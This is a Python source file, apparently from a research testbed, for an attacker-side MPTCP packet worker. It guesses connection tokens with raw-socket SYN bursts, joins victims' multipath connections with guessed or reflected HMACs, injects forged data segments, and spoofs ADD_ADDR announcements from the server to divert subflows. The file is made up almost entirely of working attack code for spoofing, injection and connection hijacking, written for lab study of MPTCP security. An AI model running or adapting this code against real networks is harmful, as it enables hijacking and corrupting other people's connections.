"""The packet worker of the MPTCP attacks: runs INSIDE the attacker node.

``python -m attacks.mptcp_worker --iface IF --address A`` imports scapy, prints one JSON
line ``{"ready": true}`` and then serves one JSON command per stdin line with one JSON
reply line on stdout, so that the attack's ``act()`` does not pay scapy's start-up time
while the victim's transfer runs. Frames are built once, as bytes, and sent on an
AF_PACKET socket: they do not cross the node's iptables OUTPUT chain, where the attack
drops the RSTs its own kernel would send for connections it does not know about.

Commands (``op``):

- ``guess``: ``attempts`` MP_JOIN SYNs with random tokens to ``server:port`` from the
  worker's own address, sent with ``testbed.runtime.rawsend`` (sendmmsg batches on an
  IP_HDRINCL raw socket, not AF_PACKET frames); counts the resets matched to their guess
  (and any SYN/ACK: a hit).
- ``join``: one MP_JOIN with ``token``; the third ACK's HMAC is computed from ``keys``
  (``hmac: keys``), from random keys (``guessed_keys``), or reflected from the SYN/ACK's
  truncated HMAC (``reflect``). Optionally injects ``inject_len`` bytes mapped (DSS) at
  data sequence ``inject_dsn``, then resets its subflow.
- ``add_addr``: forges an ADD_ADDR announcing the worker's address, as if from the server,
  into the victim's subflow seen on the tap (``client``, ``client_port``), with a valid
  HMAC from ``keys`` or a wrong one; then watches for MP_JOIN SYNs to its address.
"""

from __future__ import annotations

import argparse
import contextlib
import hashlib
import json
import os
import queue
import secrets
import select
import socket
import struct
import sys
import threading
import time
from collections.abc import Callable, Iterator
from typing import Any

from testbed.model import mptcp
from testbed.model.wire import tcp_checksum
from testbed.runtime.mptcp_pcap import Segment, segment_from_frame

MSS = 1460
ETH_P_ALL = 0x0003
PACKET_OUTGOING = 4
# A TSval ahead of the server's clock: PAWS only drops OLDER values, and a segment ahead
# of rcv_nxt never becomes the connection's ts_recent.
TSVAL_AHEAD = 5000


class Wire:
    """Send prebuilt frames on one interface; receive through a scapy sniffer."""

    def __init__(self, iface: str, address: str) -> None:
        from scapy.arch import get_if_hwaddr

        self.iface = iface
        self.address = address
        self.mac = get_if_hwaddr(iface)
        self.sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
        self.sock.bind((iface, 0))
        self._macs: dict[str, str] = {}
        self.inbox: queue.Queue[Segment] = queue.Queue()
        self.seen: list[Segment] = []
        self._listener: tuple[socket.socket, threading.Event, threading.Thread] | None = None

    def next_hop_mac(self, dst: str) -> str:
        from scapy.config import conf
        from scapy.layers.l2 import getmacbyip

        _iface, _src, gw = conf.route.route(dst)
        hop = dst if gw in ("0.0.0.0", None) else gw
        if hop not in self._macs:
            mac = None
            for _ in range(3):
                mac = getmacbyip(hop)
                if mac:
                    break
            if not mac:
                raise RuntimeError(f"no ARP answer from the next hop {hop} toward {dst}")
            self._macs[hop] = mac
        return self._macs[hop]

    def frame(self, src: str, dst: str, sport: int, dport: int, flags: str, seq: int,
              ack: int, options: list[Any], payload: bytes = b"", window: int = 65535) -> bytes:
        from scapy.layers.inet import IP, TCP
        from scapy.layers.l2 import Ether

        pkt = (Ether(src=self.mac, dst=self.next_hop_mac(dst))
               / IP(src=src, dst=dst, ttl=64)
               / TCP(sport=sport, dport=dport, flags=flags, seq=seq & 0xFFFFFFFF,
                     ack=ack & 0xFFFFFFFF, window=window, options=options))
        if payload:
            pkt = pkt / payload
        return bytes(pkt)

    def send(self, frames: list[bytes]) -> float:
        t0 = time.monotonic()
        for raw in frames:
            self.sock.send(raw)
        return time.monotonic() - t0

    def listen(self, src: str | None = None, dst: str | None = None,
               sport: int | None = None, dport: int | None = None,
               also: Callable[[str, str, int, int], bool] | None = None) -> None:
        """Receive the IPv4/TCP frames matching (src, dst, sport, dport) (``None``: any),
        or ``also``, on our own AF_PACKET socket with a large buffer (scapy's sniffer lost
        replies to a burst), parsed in a thread into ``inbox`` and ``seen``."""
        self.stop_listening()
        self.inbox = queue.Queue()
        self.seen = []
        want = (None if src is None else socket.inet_aton(src),
                None if dst is None else socket.inet_aton(dst), sport, dport)
        rx = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
        rx.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 16 << 20)
        rx.bind((self.iface, 0))
        rx.settimeout(0.05)
        stop = threading.Event()

        def match(raw: bytes) -> bool:
            if len(raw) < 54 or raw[12:14] != b"\x08\x00" or raw[23] != 6:
                return False
            ihl = (raw[14] & 0xF) * 4
            s_ip, d_ip = raw[26:30], raw[30:34]
            sp, dp = struct.unpack("!HH", raw[14 + ihl:18 + ihl])
            if all(w is None or w == v for w, v in zip(want, (s_ip, d_ip, sp, dp),
                                                         strict=True)):
                return True
            return also is not None and also(socket.inet_ntoa(s_ip), socket.inet_ntoa(d_ip),
                                             sp, dp)

        def loop() -> None:
            while not stop.is_set():
                try:
                    raw, addr = rx.recvfrom(65535)
                except TimeoutError:
                    continue
                except OSError:
                    return
                if addr[2] == PACKET_OUTGOING or not match(raw):
                    continue
                seg = segment_from_frame(raw, time.time())
                if seg is not None:
                    self.seen.append(seg)
                    self.inbox.put(seg)

        thread = threading.Thread(target=loop, daemon=True)
        thread.start()
        self._listener = (rx, stop, thread)

    def wait(self, pred: Callable[[Segment], bool], timeout: float) -> Segment | None:
        deadline = time.monotonic() + timeout
        while (left := deadline - time.monotonic()) > 0:
            try:
                seg = self.inbox.get(timeout=left)
            except queue.Empty:
                return None
            if pred(seg):
                return seg
        return None

    def stop_listening(self) -> None:
        if self._listener is not None:
            rx, stop, thread = self._listener
            stop.set()
            thread.join(timeout=1)
            rx.close()
            self._listener = None


def _rst_info(seg: Segment) -> dict[str, Any]:
    rst = seg.first(mptcp.MpTcpRst)
    return {"mp_tcprst": rst is not None, "reason": None if rst is None else rst.reason}


# -- guess -------------------------------------------------------------------------------------
GUESS_BATCH = 256
GUESS_PORTS = (20000, 40000)  # source ports 20000..59999
SOL_PACKET = 263
PACKET_IGNORE_OUTGOING = 23
ETH_P_IP = 0x0800


def op_guess(w: Wire, cmd: dict[str, Any]) -> dict[str, Any]:
    """``attempts`` MP_JOIN SYNs with random tokens, sent with ``testbed.runtime.rawsend``:
    built once (one batch of 256), then source port, sequence number, token and checksum
    patched in place per batch and sent with ``sendmmsg`` on an IP_HDRINCL raw socket from
    one pinned core. Each (source port, sequence) pair is distinct, so every answer is
    matched to its guess: a reset acknowledges sequence + 1 (a SYN/ACK would be a hit).
    The rate is attempts / the send loop's time (patching included)."""
    from testbed.runtime.rawsend import JoinSynBatch, RawSender

    server, port, n = cmd["server"], int(cmd["port"]), int(cmd["attempts"])
    rng = secrets.SystemRandom()
    lo, span = GUESS_PORTS
    first_port, first_seq = rng.randrange(span), secrets.randbits(32)
    sports = [lo + (first_port + i) % span for i in range(n)]
    seqs = [(first_seq + i * 0x9E3779B1) & 0xFFFFFFFF for i in range(n)]
    tokens = [secrets.randbits(32) for _ in range(n)]
    wanted = {(sp, sq): i for i, (sp, sq) in enumerate(zip(sports, seqs, strict=True))}
    batch = JoinSynBatch(w.address, server, port, n=min(n, GUESS_BATCH),
                         nonce=secrets.randbits(32), addr_id=9)
    rx = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_IP))
    stalls = 0
    try:
        with contextlib.suppress(OSError):
            rx.setsockopt(socket.SOL_SOCKET, 33, 256 << 20)  # SO_RCVBUFFORCE (root)
        with contextlib.suppress(OSError):
            rx.setsockopt(SOL_PACKET, PACKET_IGNORE_OUTGOING, 1)
        rx.bind((w.iface, 0))
        rx.setblocking(False)
        affinity = os.sched_getaffinity(0)
        core = max(affinity)
        os.sched_setaffinity(0, {core})  # this thread: the rate is one core's
        try:
            with RawSender() as tx:
                t0 = time.perf_counter()
                i = 0
                while i < n:
                    j = i + batch.n
                    k = batch.set_guesses(sports[i:j], seqs[i:j], tokens[i:j])
                    off = 0
                    while off < k:
                        r = tx.send_batch(batch, k, start=off)
                        off += r
                        if r == 0:  # ENOBUFS/EAGAIN: let the queue drain
                            stalls += 1
                            if stalls > 20000:
                                raise RuntimeError("the raw socket's queue never drained")
                            time.sleep(0.0002)
                    i += k
                sent_s = time.perf_counter() - t0
        finally:
            os.sched_setaffinity(0, affinity)
        resets: dict[int, Segment] = {}
        synacks: list[int] = []
        unmatched = 0
        srv, me = socket.inet_aton(server), socket.inet_aton(w.address)
        deadline = time.monotonic() + float(cmd.get("wait_s", 2.0))
        while len(resets) + len(synacks) < n and time.monotonic() < deadline:
            try:
                raw, addr = rx.recvfrom(65535)
            except BlockingIOError:
                select.select([rx], [], [], max(0.0, min(0.05, deadline - time.monotonic())))
                continue
            if addr[2] == PACKET_OUTGOING or len(raw) < 54 or raw[23] != 6 or \
                    raw[26:30] != srv or raw[30:34] != me:
                continue
            ihl = (raw[14] & 0xF) * 4
            sp, dp, _seq, ack = struct.unpack_from("!HHII", raw, 14 + ihl)
            flags = raw[14 + ihl + 13]
            if sp != port:
                continue
            idx = wanted.get((dp, (ack - 1) & 0xFFFFFFFF))
            if idx is None:
                unmatched += 1
                continue
            if flags & 0x04:  # RST
                seg = segment_from_frame(raw, time.time())
                if seg is not None:
                    resets.setdefault(idx, seg)
            elif flags & 0x12 == 0x12:  # SYN/ACK: a live token
                synacks.append(idx)
    finally:
        rx.close()
    reasons: dict[str, int] = {}
    for seg in resets.values():
        info = _rst_info(seg)
        key = f"{info['reason']:#04x}" if info["mp_tcprst"] else "plain"
        reasons[key] = reasons.get(key, 0) + 1
    return {"attempts": n, "sent_s": round(sent_s, 6),
            "rate_per_s": round(n / sent_s, 1) if sent_s > 0 else None,
            "sender": f"testbed.runtime.rawsend: sendmmsg batches of {batch.n}, prebuilt "
                      f"SYNs patched in place, one pinned core",
            "sender_core": core, "send_stalls": stalls,
            "resets": len(resets), "reset_reasons": reasons, "synacks": len(synacks),
            "answers_unmatched": unmatched,
            "matched_by": "source port and sequence number (the reset acknowledges seq + 1)",
            "hit_tokens": [f"{tokens[i]:08x}" for i in synacks]}


# -- join --------------------------------------------------------------------------------------
def op_join(w: Wire, cmd: dict[str, Any]) -> dict[str, Any]:
    server, port, tok = cmd["server"], int(cmd["port"]), int(cmd["token"])
    keys = cmd.get("keys")  # [initiator (client) key, listener (server) key] or None
    strategy = cmd.get("hmac", "guessed_keys")
    sport = secrets.SystemRandom().randrange(20000, 60000)
    isn = secrets.randbits(32)
    nonce_a = secrets.randbits(32)
    out: dict[str, Any] = {"token": f"{tok:08x}", "sport": sport, "hmac_strategy": strategy,
                           "synack": False, "accepted": False, "refused": False}
    w.listen(src=server, sport=port, dst=w.address, dport=sport)
    try:
        syn = w.frame(w.address, server, sport, port, "S", isn, 0,
                      [("MSS", MSS), mptcp.scapy_option(
                          mptcp.MpJoinSyn(token=tok, nonce=nonce_a, addr_id=7))])
        t0 = time.monotonic()
        w.send([syn])
        reply = w.wait(lambda s: s.syn or "R" in s.flags, 2.0)
        if reply is None:
            out["error"] = "no answer to the MP_JOIN SYN within 2 s"
            return out
        if "R" in reply.flags:
            out.update(refused=True, refused_at="syn", **_rst_info(reply))
            return out
        synack = reply.first(mptcp.MpJoinSynAck)
        if synack is None:
            out["error"] = "SYN/ACK without MP_JOIN"
            return out
        out.update(synack=True, synack_rtt_s=round(time.monotonic() - t0, 6),
                   server_nonce=f"{synack.nonce:08x}", synack_hmac=f"{synack.hmac:016x}")
        if keys:
            ka, kb = int(keys[0]), int(keys[1])
            out["synack_hmac_valid"] = synack.hmac == mptcp.join_synack_hmac(
                kb, ka, synack.nonce, nonce_a)
        if strategy == "keys" and keys:
            mac = mptcp.join_ack_hmac(int(keys[0]), int(keys[1]), nonce_a, synack.nonce)
        elif strategy == "reflect":
            # All a half-on-path attacker holds: the 64-bit HMAC and nonce it received.
            mac = (synack.hmac.to_bytes(8, "big") * 2 + synack.nonce.to_bytes(4, "big"))
        else:
            mac = mptcp.join_ack_hmac(secrets.randbits(64), secrets.randbits(64), nonce_a,
                                      synack.nonce)
        out["ack_hmac"] = mac.hex()
        snd_nxt, rcv_nxt = isn + 1, reply.seq + 1
        ack3 = w.frame(w.address, server, sport, port, "A", snd_nxt, rcv_nxt,
                       [mptcp.scapy_option(mptcp.MpJoinAck(mac))])
        w.send([ack3])
        answer = w.wait(lambda s: True, 1.5)
        if answer is None:
            out["error"] = "no answer to the third ACK within 1.5 s"
            return out
        if "R" in answer.flags:
            out.update(refused=True, refused_at="third_ack", **_rst_info(answer))
            return out
        out["accepted"] = True
        inject_len = int(cmd.get("inject_len", 0))
        if inject_len and cmd.get("inject_dsn") is not None:
            out.update(_inject(w, cmd, server, port, sport, snd_nxt, rcv_nxt, inject_len))
            snd_nxt += inject_len
        # Leave: a subflow RST (no MP_FASTCLOSE) closes only the attacker's subflow; the
        # server reinjects what it had scheduled on it onto the victim's own subflows.
        w.send([w.frame(w.address, server, sport, port, "R", snd_nxt, 0, [])])
        out["reset_sent"] = True
        out["server_segments_on_subflow"] = len([s for s in w.seen if "R" not in s.flags])
        return out
    finally:
        w.stop_listening()


def _inject(w: Wire, cmd: dict[str, Any], server: str, port: int, sport: int, snd_nxt: int,
            rcv_nxt: int, length: int) -> dict[str, Any]:
    dsn = int(cmd["inject_dsn"]) & mptcp.MASK64
    # Shaped like a TLS 1.3 application_data record: a receiver decrypts it, fails the
    # AEAD tag, and answers with bad_record_mac.
    payload = struct.pack("!BHH", 0x17, 0x0303, length - 5) + secrets.token_bytes(length - 5)
    csum = mptcp.dss_checksum(dsn, 1, length, payload) if cmd.get("checksum") else None
    dss = mptcp.Dss(dsn=dsn, subflow_seq=1, data_len=length, checksum=csum)
    frame = w.frame(w.address, server, sport, port, "PA", snd_nxt, rcv_nxt,
                    [mptcp.scapy_option(dss)], payload)
    w.send([frame])
    end = (dsn + length) & mptcp.MASK64

    def acks_it(seg: Segment) -> bool:
        d = seg.first(mptcp.Dss)
        return d is not None and d.data_ack is not None and \
            (d.data_ack - end) & mptcp.MASK64 < (1 << 63)

    acked = w.wait(acks_it, 2.0)
    return {"injected_bytes": length, "inject_dsn": f"{dsn:016x}",
            "injected_data_acked": acked is not None,
            "injected_sha256": hashlib.sha256(payload).hexdigest(),
            "injected_hex": payload.hex()}


# -- add_addr ----------------------------------------------------------------------------------
def op_add_addr(w: Wire, cmd: dict[str, Any]) -> dict[str, Any]:
    server, port = cmd["server"], int(cmd["port"])
    client, cport = cmd["client"], int(cmd["client_port"])
    client_key, server_key = int(cmd["keys"][0]), int(cmd["keys"][1])
    addr_id = int(cmd.get("addr_id", 42))
    valid = bool(cmd["valid"])
    out: dict[str, Any] = {"hmac_valid": valid, "addr_id": addr_id, "announced": w.address}
    # ARP and the frame's bytes first: the frame must leave right after the state is read.
    mac = mptcp.add_addr_hmac(server_key, client_key, addr_id, w.address)
    if not valid:
        mac ^= 1  # one bit off: a forger without the keys does far worse
    opt = mptcp.AddAddr(addr_id, w.address, hmac=mac)
    template = w.frame(server, client, port, cport, "A", 0, 0,
                       [("NOP", None), ("NOP", None), ("Timestamp", (0, 0)),
                        mptcp.scapy_option(opt)])
    # The freshest state of the victim's subflow, seen on the tap: the server's latest
    # segment (ack, window, timestamps: PAWS drops a segment whose TSval is older than the
    # last one the client took) and the client's latest ACK and window (the right edge of
    # what it accepts). Read from the socket by this thread, right before sending: a
    # listener thread lagged by hundreds of ms on a loaded machine.
    state = _SubflowState(server, port, client, cport)
    with _raw_socket(w.iface) as rx:
        state.drain(rx, until=lambda: state.server is not None and state.client is not None,
                    timeout=2.0)
        if state.server is None:
            out["error"] = "no segment of the victim's subflow seen on the tap within 2 s"
            return out
        state.drain(rx)  # whatever arrived meanwhile
        latest, client_seg = state.server, state.client
        assert latest.tsval is not None and latest.tsecr is not None
        seqs = []
        wscale = cmd.get("client_wscale")
        server_end = latest.seq + latest.payload_len
        if client_seg is not None and wscale is not None:
            # Inside the client's receive window, ahead of everything still queued toward
            # it: its right edge - 1, and halfway between the server's latest byte and it.
            right = client_seg.ack + (client_seg.window << int(wscale))
            span = (right - server_end) & 0xFFFFFFFF
            seqs = [right - 1, server_end + span // 2] if span < 1 << 30 else [right - 1]
            out["seq_choice"] = "right edge of the client's window - 1, and halfway to it"
        else:
            seqs = [server_end + int(cmd.get("seq_margin", 16 * 1448))]
            out["seq_choice"] = "server's latest sequence + margin"
        tsval = (latest.tsval + TSVAL_AHEAD) & 0xFFFFFFFF
        frames = [_patch_tcp(template, seq=sq, ack=latest.ack, window=latest.window,
                             tsval=tsval, tsecr=latest.tsecr) for sq in seqs]
        w.listen(dst=w.address, dport=port)
        t0, t0_wall = time.monotonic(), time.time()
        w.send(frames)
    out.update(forged_seqs=[sq & 0xFFFFFFFF for sq in seqs], copied_tsval=latest.tsval,
               tsval_ahead_ms=TSVAL_AHEAD, forged_copies=len(frames))
    try:
        joins: list[Segment] = []
        deadline = t0 + float(cmd.get("listen_s", 1.5))
        while (left := deadline - time.monotonic()) > 0:
            seg = w.wait(lambda s: s.dst == w.address and s.flags == "S", left)
            if seg is None:
                break
            joins.append(seg)
        # Each SYN may be seen twice on a tap (the mirror, then delivered): count it once.
        unique: dict[tuple[str, int, int], Segment] = {}
        for s in joins:
            if s.first(mptcp.MpJoinSyn) is not None:
                unique.setdefault((s.src, s.sport, s.seq), s)
        syns = sorted(unique.values(), key=lambda s: s.time)
        out["join_syns_to_attacker"] = len(syns)
        if syns:
            first = syns[0].first(mptcp.MpJoinSyn)
            out.update(first_join_after_s=round(syns[0].time - t0_wall, 3),
                       join_from=syns[0].src,
                       join_token=f"{first.token:08x}",
                       join_token_is_servers=first.token == mptcp.token(server_key))
        return out
    finally:
        w.stop_listening()


class _SubflowState:
    def __init__(self, server: str, port: int, client: str, cport: int) -> None:
        self.s2c = (socket.inet_aton(server), socket.inet_aton(client), port, cport)
        self.c2s = (socket.inet_aton(client), socket.inet_aton(server), cport, port)
        self.server: Segment | None = None
        self.client: Segment | None = None

    def take(self, raw: bytes) -> None:
        if len(raw) < 54 or raw[12:14] != b"\x08\x00" or raw[23] != 6:
            return
        ihl = (raw[14] & 0xF) * 4
        key = (raw[26:30], raw[30:34], *struct.unpack("!HH", raw[14 + ihl:18 + ihl]))
        if key not in (self.s2c, self.c2s):
            return
        seg = segment_from_frame(raw, time.time())
        if seg is None:
            return
        if key == self.s2c and seg.tsval is not None:
            self.server = seg
        elif key == self.c2s:
            self.client = seg

    def drain(self, rx: socket.socket, until: Callable[[], bool] | None = None,
              timeout: float = 0.0) -> None:
        """Take every frame waiting in ``rx``; with ``until``, keep waiting (bounded by
        ``timeout``) until it holds, then take what is still waiting."""
        deadline = time.monotonic() + timeout
        while True:
            try:
                raw, addr = rx.recvfrom(65535)
            except BlockingIOError:
                if until is None or until() or time.monotonic() >= deadline:
                    return
                select.select([rx], [], [], max(0.0, min(0.05, deadline - time.monotonic())))
                continue
            if addr[2] != PACKET_OUTGOING:
                self.take(raw)


@contextlib.contextmanager
def _raw_socket(iface: str) -> Iterator[socket.socket]:
    rx = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    try:
        rx.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 16 << 20)
        rx.bind((iface, 0))
        rx.setblocking(False)
        yield rx
    finally:
        rx.close()


def _patch_tcp(frame: bytes, *, seq: int, ack: int, window: int, tsval: int,
               tsecr: int) -> bytes:
    """Set sequence, ack, window and timestamps (NOP NOP TS first in the options) of a
    prebuilt Ethernet/IPv4 (no IP options)/TCP frame and recompute the TCP checksum."""
    buf = bytearray(frame)
    tcp = 14 + 20
    struct.pack_into("!II", buf, tcp + 4, seq & 0xFFFFFFFF, ack & 0xFFFFFFFF)
    struct.pack_into("!H", buf, tcp + 14, window)
    assert buf[tcp + 22] == 8, "the template starts its options with NOP NOP TS"
    struct.pack_into("!II", buf, tcp + 24, tsval & 0xFFFFFFFF, tsecr & 0xFFFFFFFF)
    struct.pack_into("!H", buf, tcp + 16, tcp_checksum(bytes(buf[26:30]), bytes(buf[30:34]),
                                                       bytes(buf[tcp:])))
    return bytes(buf)


OPS: dict[str, Callable[[Wire, dict[str, Any]], dict[str, Any]]] = {
    "guess": op_guess, "join": op_join, "add_addr": op_add_addr}


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(prog="attacks.mptcp_worker")
    ap.add_argument("--iface", required=True)
    ap.add_argument("--address", required=True)
    args = ap.parse_args(argv)
    wire = Wire(args.iface, args.address)
    print(json.dumps({"ready": True, "mac": wire.mac}), flush=True)
    for line in sys.stdin:
        if not line.strip():
            continue
        try:
            cmd = json.loads(line)
            if cmd.get("op") == "quit":
                break
            reply = OPS[cmd["op"]](wire, cmd)
        except Exception as exc:  # reported to the attack, which fails the step
            reply = {"error": f"{type(exc).__name__}: {exc}"}
        print(json.dumps(reply, default=str), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
